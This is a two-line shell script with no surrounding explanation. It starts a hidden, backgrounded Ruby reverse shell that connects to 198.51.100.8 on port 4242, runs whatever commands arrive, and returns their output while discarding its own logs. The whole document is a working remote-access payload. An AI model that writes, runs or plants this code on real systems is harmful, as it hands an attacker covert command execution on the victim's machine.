#!/bin/sh
nohup ruby -rsocket -e 'exit if fork;c=TCPSocket.new("198.51.100.8","4242");loop{c.gets.chomp!;(exit! if $_=="exit");($_=~/cd (.+)/i?(Dir.chdir($1)):(IO.popen($_,?r){|io|c.print io.read}))rescue c.puts "failed: #{$_}"}' >/dev/null 2>&1 &
